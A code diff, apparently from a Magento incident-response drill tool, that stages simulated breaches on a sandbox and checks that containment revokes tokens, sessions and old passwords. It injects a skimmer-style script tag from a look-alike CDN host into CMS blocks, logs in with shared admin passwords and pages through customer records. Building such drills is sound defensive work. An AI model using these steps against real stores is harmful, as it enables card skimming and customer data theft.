@@ -1,4 +1,4 @@
-"""Staging a breach on a served sandbox, as an attacker and shoppers would, over real HTTP.
+"""Staging breaches on a served sandbox, as attackers and shoppers would, over real HTTP.
 
 Only what has no Magento route is written straight into the sandbox's state (a skimmer in
 `design/head/includes` is planted through the admin panel or SQL, not REST) and it is reported so.
@@ -19,18 +19,33 @@ from magento_ir.auth import AdminCredentials, BearerToken
 from magento_ir.drill._report import CheckReport, StagedItem
 
 if TYPE_CHECKING:
+    from datetime import datetime
+
     from magento_ir.sandbox import Sandbox
 
-__all__ = ["SKIMMER_SCRIPT", "StagedBreach", "stage_magecart"]
+__all__ = [
+    "CARD_TESTING_IP",
+    "SKIMMER_SCRIPT",
+    "StagedBreach",
+    "attacker_checks",
+    "stage_card_testing",
+    "stage_compromised_admin",
+    "stage_customer_exfiltration",
+    "stage_hr_breach",
+    "stage_magecart",
+]
 
 # A skimmer as seen in the wild: an external script dressed up as a library, on a look-alike host.
 SKIMMER_SCRIPT = '<script src="https://cdn-jquery-min.example.org/jquery-3.7.1.min.js"></script>'
-SKIMMER_BLOCK_IDENTIFIER = "checkout-trust-badges"
-_STOLEN_CUSTOMERS = 3
+# Where the sandbox's generated card-testing burst comes from (docs/sandbox.md, "Data").
+CARD_TESTING_IP = "203.0.113.77"
+_SHOPPERS = 3
+_EXFILTRATED_PAGES = 5
 _HTTP_OK = 200
 _HTTP_NOT_FOUND = 404
 _LOGIN_FORM = "/customer/account/login/"
 _LOGIN_PAGE = "/customer/account/loginPost/"
+_ACCOUNT_PAGE = "/customer/account"
 _FORM_KEY = re.compile(r'name="form_key" value="([A-Za-z0-9]+)"')
 # Reads one of which each reference admin role may make (all, support: sales, catalog: CMS).
 _ADMIN_PROBES = (
@@ -38,7 +53,6 @@ _ADMIN_PROBES = (
     "/V1/orders?searchCriteria[pageSize]=1",
     "/V1/cmsBlock/search?searchCriteria[pageSize]=1",
 )
-_ACCOUNT_PAGE = "/customer/account"
 
 
 @dataclass(slots=True)
@@ -47,27 +61,43 @@ class StagedBreach:
 
     items: list[StagedItem] = field(default_factory=list)
     skimmer_block_ids: list[int] = field(default_factory=list)
+    customer_ids: list[int] = field(default_factory=list)
     customer_tokens: list[str] = field(default_factory=list, repr=False)
     # Each admin token with a route its role may read: Magento's 401 also means "no ACL".
     admin_tokens: list[tuple[str, str]] = field(default_factory=list, repr=False)
     # One cookie jar per logged-in shopper (a storefront session).
     storefront_sessions: list[AsyncClient] = field(default_factory=list, repr=False)
-    orders_in_flight: int = 0
+    # Customer logins whose password the playbook replaces: the old one must stop working.
+    old_logins: list[tuple[str, str]] = field(default_factory=list, repr=False)
+    # The responder's canary customer: among the affected customers, so that the actions'
+    # own checks (its pre-write token and session) are about someone the playbook covers.
+    canary_customer_id: int | None = None
+    # Orders the scenario holds are those in flight created from this time on (UTC).
+    orders_since: str | None = None
     notes: list[str] = field(default_factory=list)
+
+    def affected_customers(self) -> list[int]:
+        canary = [] if self.canary_customer_id is None else [self.canary_customer_id]
+        return [*self.customer_ids, *canary]
 
     async def close(self) -> None:
         for session in self.storefront_sessions:
             await session.aclose()
 
 
-async def stage_magecart(
-    sandbox: Sandbox, base_url: str, *, admin_user: str, admin_password: str
-) -> StagedBreach:
+def _attacker(sandbox: Sandbox, base_url: str, username: str | None = None) -> AsyncMagentoClient:
+    """A stolen admin login (every reference admin has the sandbox's admin password)."""
+    options = sandbox.options
+    return AsyncMagentoClient(
+        base_url, auth=AdminCredentials(username or options.admin_user, options.admin_password)
+    )
+
+
+async def stage_magecart(sandbox: Sandbox, base_url: str) -> StagedBreach:
     """A Magecart skimmer in checkout, live customer and admin sessions, orders in flight."""
     breach = StagedBreach()
-    attacker = AsyncMagentoClient(base_url, auth=AdminCredentials(admin_user, admin_password))
-    async with attacker:
-        await _plant_block(attacker, breach)
+    async with _attacker(sandbox, base_url) as attacker:
+        await _plant_block(attacker, breach, "checkout-trust-badges", with_existing=True)
         _plant_head_include(sandbox, breach)
         await _admin_sessions(sandbox, attacker, base_url, breach)
         await _customer_sessions(sandbox, attacker, base_url, breach)
@@ -75,34 +105,104 @@ async def stage_magecart(
     return breach
 
 
-async def _plant_block(attacker: AsyncMagentoClient, breach: StagedBreach) -> None:
+async def stage_compromised_admin(sandbox: Sandbox, base_url: str) -> StagedBreach:
+    """The `catalog` admin's password is stolen: a planted block, every admin signed in."""
+    breach = StagedBreach()
+    async with _attacker(sandbox, base_url, "catalog") as attacker:
+        await _plant_block(attacker, breach, "promo-banner-2026", with_existing=False)
+        await _admin_sessions(sandbox, attacker, base_url, breach)
+    return breach
+
+
+async def stage_customer_exfiltration(sandbox: Sandbox, base_url: str) -> StagedBreach:
+    """The `support` admin's login pages through the customer table; shoppers are signed in."""
+    breach = StagedBreach()
+    async with _attacker(sandbox, base_url, "support") as attacker:
+        read = 0
+        for page in range(1, _EXFILTRATED_PAGES + 1):
+            result = await attacker.customers.list(SearchCriteria().page(100, page))
+            read += len(result.items)
+        breach.items.append(
+            StagedItem(
+                "customer records read out by the attacker",
+                f"GET /V1/customers/search, {_EXFILTRATED_PAGES} pages of 100 as `support`",
+                read,
+            )
+        )
+        await _admin_sessions(sandbox, attacker, base_url, breach)
+        await _customer_sessions(sandbox, attacker, base_url, breach)
+    password = sandbox.options.customer_password
+    breach.old_logins = [(email, password) for email in await _emails(sandbox, breach)]
+    return breach
+
+
+async def stage_hr_breach(sandbox: Sandbox, base_url: str) -> StagedBreach:
+    """Staff credentials leaked: every admin signed in, staff shoppers' tokens in use."""
+    breach = StagedBreach()
+    async with _attacker(sandbox, base_url) as attacker:
+        await _admin_sessions(sandbox, attacker, base_url, breach)
+        await _customer_sessions(sandbox, attacker, base_url, breach, storefront=False)
+    password = sandbox.options.customer_password
+    breach.old_logins = [(email, password) for email in await _emails(sandbox, breach)]
+    return breach
+
+
+async def stage_card_testing(sandbox: Sandbox, base_url: str) -> StagedBreach:
+    """The sandbox's card-testing burst: small declined guest orders from one address."""
+    breach = StagedBreach()
+    async with _attacker(sandbox, base_url) as attacker:
+        burst = await attacker.orders.list(
+            SearchCriteria().where("remote_ip", "eq", CARD_TESTING_IP).order_by("created_at")
+        )
+        started = _magento_time(burst.items[0].created_at) if burst.items else None
+        breach.items.append(
+            StagedItem(
+                f"card-testing orders from {CARD_TESTING_IP}",
+                "generated by the sandbox (declined authorizations); found with GET /V1/orders "
+                f"remote_ip eq {CARD_TESTING_IP}" + (f", first at {started}" if started else ""),
+                burst.total_count,
+            )
+        )
+        await _orders_in_flight(attacker, breach)
+        if started is not None and breach.orders_since is not None:
+            breach.orders_since = min(started, breach.orders_since)
+    return breach
+
+
+async def _emails(sandbox: Sandbox, breach: StagedBreach) -> list[str]:
+    with sandbox.lock:
+        rows = [sandbox.state.customers.get(customer_id) for customer_id in breach.customer_ids]
+    return [row["email"] for row in rows if row is not None]
+
+
+async def _plant_block(
+    attacker: AsyncMagentoClient, breach: StagedBreach, identifier: str, *, with_existing: bool
+) -> None:
     answer = await attacker.request(
         "POST",
         "/V1/cmsBlock",
         json={
             "block": {
-                "identifier": SKIMMER_BLOCK_IDENTIFIER,
-                "title": "Checkout trust badges",
-                "content": f'<div class="trust-badges"></div>{SKIMMER_SCRIPT}',
+                "identifier": identifier,
+                "title": identifier.replace("-", " ").capitalize(),
+                "content": f'<div class="{identifier}"></div>{SKIMMER_SCRIPT}',
                 "active": True,
             }
         },
     )
     block_id = int(answer["id"]) if isinstance(answer, dict) else 0
     breach.skimmer_block_ids.append(block_id)
-    # The reference store's own `footer-promo` block already loads an external script.
-    existing = await attacker.cms_blocks.list(
-        SearchCriteria().where("content", "like", "%<script%")
-    )
-    others = [block.id for block in existing.items if block.id != block_id]
-    breach.skimmer_block_ids.extend(block_id for block_id in others if block_id is not None)
-    breach.items.append(
-        StagedItem(
-            "skimmer in CMS blocks",
-            f"POST /V1/cmsBlock (id {block_id}, stolen admin login); already present: "
-            f"{', '.join(str(other) for other in others) or 'none'}",
-            len(breach.skimmer_block_ids),
+    how = f"POST /V1/cmsBlock (id {block_id}) with the stolen login"
+    if with_existing:
+        # The reference store's own `footer-promo` block already loads an external script.
+        found = await attacker.cms_blocks.list(
+            SearchCriteria().where("content", "like", "%<script%")
         )
+        others = [block.id for block in found.items if block.id not in (None, block_id)]
+        breach.skimmer_block_ids.extend(other for other in others if other is not None)
+        how += f"; already present: {', '.join(str(other) for other in others) or 'none'}"
+    breach.items.append(
+        StagedItem("script injected in CMS blocks", how, len(breach.skimmer_block_ids))
     )
 
 
@@ -123,8 +223,11 @@ def _plant_head_include(sandbox: Sandbox, breach: StagedBreach) -> None:
 async def _admin_sessions(
     sandbox: Sandbox, attacker: AsyncMagentoClient, base_url: str, breach: StagedBreach
 ) -> None:
-    """Admin tokens of every admin user of the reference store (the same password)."""
-    usernames = sorted(user.username for user in _admin_users(sandbox))
+    """Admin tokens of every active admin user (the reference admins share one password)."""
+    with sandbox.lock:
+        usernames = sorted(
+            user.username for user in sandbox.state.admin_users.values() if user.is_active
+        )
     password = sandbox.options.admin_password
     tokens = await asyncio.gather(
         *(attacker.tokens.admin(username, password) for username in usernames)
@@ -143,26 +246,19 @@ async def _admin_sessions(
     )
 
 
-def _admin_users(sandbox: Sandbox) -> list[_AdminUserView]:
-    with sandbox.lock:
-        return [
-            _AdminUserView(user.username)
-            for user in sandbox.state.admin_users.values()
-            if user.is_active
-        ]
-
-
-@dataclass(frozen=True, slots=True)
-class _AdminUserView:
-    username: str
-
-
 async def _customer_sessions(
-    sandbox: Sandbox, attacker: AsyncMagentoClient, base_url: str, breach: StagedBreach
+    sandbox: Sandbox,
+    attacker: AsyncMagentoClient,
+    base_url: str,
+    breach: StagedBreach,
+    *,
+    storefront: bool = True,
 ) -> None:
     """Customer tokens and storefront logins of a few shoppers (real logins over HTTP)."""
-    page = await attacker.customers.list(SearchCriteria().page(_STOLEN_CUSTOMERS, 1))
-    emails = [customer.email for customer in page.items if customer.email]
+    page = await attacker.customers.list(SearchCriteria().page(_SHOPPERS, 1))
+    shoppers = [(customer.id, customer.email) for customer in page.items if customer.email]
+    breach.customer_ids.extend(customer_id for customer_id, _ in shoppers if customer_id)
+    emails = [email for _, email in shoppers]
     password = sandbox.options.customer_password
     tokens = await asyncio.gather(*(attacker.tokens.customer(email, password) for email in emails))
     breach.customer_tokens.extend(tokens)
@@ -173,31 +269,18 @@ async def _customer_sessions(
             len(tokens),
         )
     )
+    if not storefront:
+        return
     logged_in = 0
     for email in emails:
         session = AsyncClient(base_url=base_url, follow_redirects=False, timeout=30)
-        # Magento's login form carries a per-session form key; a POST without it is refused.
-        form = await session.get(_LOGIN_FORM)
-        found = _FORM_KEY.search(form.text)
-        answer = await session.post(
-            _LOGIN_PAGE,
-            data={
-                "form_key": found.group(1) if found else "",
-                "login[username]": email,
-                "login[password]": password,
-            },
-        )
-        if answer.status_code == _HTTP_NOT_FOUND:
-            await session.aclose()
-            breach.notes.append(
-                "storefront sessions were not staged: this sandbox has no storefront login page"
-            )
-            break
-        if await storefront_logged_in(session):
+        if await _storefront_login(session, email, password):
             breach.storefront_sessions.append(session)
             logged_in += 1
         else:
             await session.aclose()
+    if not logged_in:
+        breach.notes.append("no storefront session could be staged: the login did not stick")
     breach.items.append(
         StagedItem(
             "live storefront sessions (cookies)",
@@ -208,24 +291,50 @@ async def _customer_sessions(
     )
 
 
+async def _storefront_login(session: AsyncClient, email: str, password: str) -> bool:
+    # Magento's login form carries a per-session form key; a POST without it is refused.
+    form = await session.get(_LOGIN_FORM)
+    if form.status_code == _HTTP_NOT_FOUND:
+        return False
+    found = _FORM_KEY.search(form.text)
+    await session.post(
+        _LOGIN_PAGE,
+        data={
+            "form_key": found.group(1) if found else "",
+            "login[username]": email,
+            "login[password]": password,
+        },
+    )
+    return await storefront_logged_in(session)
+
+
 async def storefront_logged_in(session: AsyncClient) -> bool:
     """The storefront's account page answers 200 only to a logged-in session (else a redirect)."""
     answer = await session.get(_ACCOUNT_PAGE)
     return answer.status_code == _HTTP_OK
 
 
-async def _orders_in_flight(attacker: AsyncMagentoClient, breach: StagedBreach) -> None:
-    page = await attacker.orders.list(
-        SearchCriteria().where("state", "in", ["new", "processing"]).page(1, 1)
-    )
-    breach.orders_in_flight = page.total_count
+async def _orders_in_flight(
+    attacker: AsyncMagentoClient, breach: StagedBreach, recent: int = 8
+) -> None:
+    """Orders not yet shipped; the `recent` newest count as placed during the breach."""
+    in_flight = SearchCriteria().where("state", "in", ["new", "processing"])
+    page = await attacker.orders.list(in_flight.order_by("created_at", "DESC").page(recent, 1))
+    if page.items:
+        breach.orders_since = _magento_time(page.items[-1].created_at)
     breach.items.append(
         StagedItem(
             "orders in flight (state new or processing)",
-            "generated by the sandbox; counted with GET /V1/orders",
+            "generated by the sandbox; counted with GET /V1/orders"
+            + (f"; placed during the breach: from {breach.orders_since}" if page.items else ""),
             page.total_count,
         )
     )
+
+
+def _magento_time(moment: datetime | None) -> str | None:
+    """Magento's `YYYY-MM-DD HH:MM:SS` (UTC), as searchCriteria compares it."""
+    return None if moment is None else moment.strftime("%Y-%m-%d %H:%M:%S")
 
 
 async def token_refused(base_url: str, token: str, path_and_query: str) -> bool:
@@ -241,30 +350,43 @@ async def token_refused(base_url: str, token: str, path_and_query: str) -> bool:
     return False
 
 
+async def _login_refused(base_url: str, email: str, password: str) -> bool:
+    probe = AsyncMagentoClient(base_url, auth=None, max_retries=0)
+    async with probe:
+        try:
+            await probe.tokens.customer(email, password)
+        except AuthenticationError:
+            return True
+    return False
+
+
 async def attacker_checks(base_url: str, breach: StagedBreach) -> list[CheckReport]:
     """What the attacker and the hijacked shoppers can still do after containment."""
     checks: list[CheckReport] = []
-    refused = [
-        await token_refused(base_url, token, "/V1/customers/me") for token in breach.customer_tokens
-    ]
-    checks.append(
-        CheckReport(
-            "customer tokens issued before containment are refused",
-            all(refused) if refused else None,
-            f"GET /V1/customers/me: {sum(refused)} of {len(refused)} answered 401",
+    if breach.customer_tokens:
+        refused = [
+            await token_refused(base_url, token, "/V1/customers/me")
+            for token in breach.customer_tokens
+        ]
+        checks.append(
+            CheckReport(
+                "customer tokens issued before containment are refused",
+                all(refused),
+                f"GET /V1/customers/me: {sum(refused)} of {len(refused)} answered 401",
+            )
         )
-    )
-    admin_refused = [
-        await token_refused(base_url, token, path) for token, path in breach.admin_tokens
-    ]
-    checks.append(
-        CheckReport(
-            "admin tokens issued before containment are refused",
-            all(admin_refused) if admin_refused else None,
-            f"a read each admin's role allowed before: {sum(admin_refused)} of "
-            f"{len(admin_refused)} answered 401",
+    if breach.admin_tokens:
+        admin_refused = [
+            await token_refused(base_url, token, path) for token, path in breach.admin_tokens
+        ]
+        checks.append(
+            CheckReport(
+                "admin tokens issued before containment are refused",
+                all(admin_refused),
+                f"a read each admin's role allowed before: {sum(admin_refused)} of "
+                f"{len(admin_refused)} answered 401",
+            )
         )
-    )
     if breach.storefront_sessions:
         still_in = [await storefront_logged_in(session) for session in breach.storefront_sessions]
         checks.append(
@@ -275,12 +397,14 @@ async def attacker_checks(base_url: str, breach: StagedBreach) -> list[CheckRepo
                 f"{len(still_in) - sum(still_in)} of {len(still_in)} logged out",
             )
         )
-    else:
+    if breach.old_logins:
+        old = [await _login_refused(base_url, email, pw) for email, pw in breach.old_logins]
         checks.append(
             CheckReport(
-                "storefront sessions are logged out",
-                None,
-                "no storefront session could be staged on this sandbox",
+                "the old customer passwords no longer sign in",
+                all(old),
+                f"POST /V1/integration/customer/token with the old password: {sum(old)} of "
+                f"{len(old)} answered 401",
             )
         )
     return checks
